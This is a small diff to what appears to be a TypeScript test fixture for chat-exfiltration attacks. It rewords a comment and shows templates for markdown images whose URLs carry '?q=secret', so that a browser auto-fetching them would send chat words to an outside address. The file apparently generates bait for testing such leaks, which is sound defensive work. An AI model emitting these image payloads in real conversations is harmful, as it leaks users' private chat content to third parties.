@@ -1,6 +1,6 @@
 import type { AttackKind } from '../bait.ts';
 
-/** What would be fetched from elsewhere as soon as it is drawn: words of the chat in its address leave with it. */
+/** Things that a browser would fetch as soon as they are drawn, and whose addresses could carry words of the chat away. */
 export const fetches: AttackKind = ({ url }) => ({
 	'an image': `![x](${url}?q=secret)`,
 	'an image in angle brackets': `![x](<${url}?q=secret words>)`,
